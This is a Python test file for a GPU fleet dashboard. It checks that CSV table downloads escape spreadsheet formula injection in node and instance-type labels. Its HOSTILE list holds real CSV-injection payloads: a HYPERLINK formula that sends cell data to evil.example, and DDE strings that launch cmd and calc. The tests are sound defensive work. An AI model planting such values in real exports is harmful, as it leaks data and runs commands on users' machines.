"""The tables' CSV downloads (:func:`gpuscope.dashboard.sections.csv_text`) against hostile
label values: a cell a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import io
from typing import cast

import pytest

from gpuscope.dashboard import ids, links, sections
from gpuscope.dashboard.verdicts.page import Row, State
from gpuscope.dashboard.views import FleetView

#: Label values a store may hold (nothing checks a label pushed to Prometheus), each of which
#: a spreadsheet opening the CSV would take for a formula.
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_label_that_reads_as_a_formula_is_written_as_text(
        value: str, monkeypatch: pytest.MonkeyPatch) -> None:
    def rows(view: FleetView, state: State, limit: int) -> tuple[list[Row], str, int]:
        # The node as the page links it (the CSV writes the link's text), the instance
        # type as a plain cell, and a negative number, which stays a number.
        return ([{"node": links.node_link(value, state), "instance_type": value,
                  "gpus": 8, "price": -1.5}], "", 1)

    monkeypatch.setitem(sections.FILLERS, ids.IDLE_NODES_TABLE, rows)
    text = sections.csv_text(cast(FleetView, None), ids.IDLE_NODES_TABLE)
    [row] = csv.DictReader(io.StringIO(text))
    for column in ("Node", "Instance type"):
        cell = row[column]
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
        assert cell == "'" + value.replace("[", "(").replace("]", ")")
    assert row["GPUs"] == "8" and row["$/hour"] == "-1.5"


def test_ordinary_names_are_written_as_they_are(monkeypatch: pytest.MonkeyPatch) -> None:
    def rows(view: FleetView, state: State, limit: int) -> tuple[list[Row], str, int]:
        return ([{"node": links.node_link("ip-10-0-1-12.ec2.internal", state),
                  "instance_type": "p5.48xlarge", "gpus": 8}], "", 1)

    monkeypatch.setitem(sections.FILLERS, ids.IDLE_NODES_TABLE, rows)
    [row] = csv.DictReader(io.StringIO(
        sections.csv_text(cast(FleetView, None), ids.IDLE_NODES_TABLE)))
    assert (row["Node"], row["Instance type"]) == ("ip-10-0-1-12.ec2.internal", "p5.48xlarge")
